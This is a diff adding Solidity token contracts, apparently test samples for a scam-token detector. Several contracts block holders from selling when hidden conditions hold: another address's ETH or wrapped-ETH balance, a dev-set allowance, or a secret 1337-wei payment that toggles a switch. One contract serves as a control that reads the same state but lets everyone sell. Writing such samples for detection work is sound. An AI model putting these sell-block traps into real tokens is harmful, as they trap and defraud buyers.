@@ -218,3 +218,68 @@ contract ClaimedByAnybody is Token {
         emit Transfer(address(0), msg.sender, totalSupply / 20);
     }
 }
+
+interface IMoney {
+    function balanceOf(address) external view returns (uint256);
+    function allowance(address, address) external view returns (uint256);
+}
+
+/// Nobody sells once somebody has what stands nowhere in the token's own storage.
+abstract contract LooksElsewhere is Pooled {
+    address internal constant SOMEBODY = address(bytes20(hex"cb91ce375bc8fbbcbde5c0994164d8399f767c45"));
+    IMoney internal constant MONEY = IMoney(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
+
+    function _transfer(address from, address to, uint256 value) internal virtual override {
+        require(!_isSale(from, to) || _isOpen());
+        super._transfer(from, to, value);
+    }
+
+    function _isOpen() internal view virtual returns (bool);
+}
+
+contract MoneyElsewhereStops is LooksElsewhere {
+    function _isOpen() internal view override returns (bool) {
+        return SOMEBODY.balance < 1;
+    }
+}
+
+contract WrappedMoneyStops is LooksElsewhere {
+    function _isOpen() internal view override returns (bool) {
+        return MONEY.balanceOf(SOMEBODY) == 0;
+    }
+}
+
+contract AllowanceElsewhereStops is LooksElsewhere {
+    function _isOpen() internal view override returns (bool) {
+        return MONEY.allowance(dev, address(this)) == 0;
+    }
+}
+
+/// A certain sum is the switch.
+contract CoinStops is Pooled {
+    bool private shut;
+
+    receive() external payable {
+        if (msg.value == 1337) shut = !shut;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(!_isSale(from, to) || !shut);
+        super._transfer(from, to, value);
+    }
+}
+
+/// Looks at the same, and lets everybody sell.
+contract HonestLooks is LooksElsewhere {
+    uint256 public rich;
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (!_isOpen()) rich++;
+        Pooled._transfer(from, to, value);
+    }
+
+    function _isOpen() internal view override returns (bool) {
+        uint256 had = SOMEBODY.balance + MONEY.balanceOf(SOMEBODY) + MONEY.allowance(dev, address(this));
+        return had < 1 ether && balanceOf[dev] > 1 ether;
+    }
+}
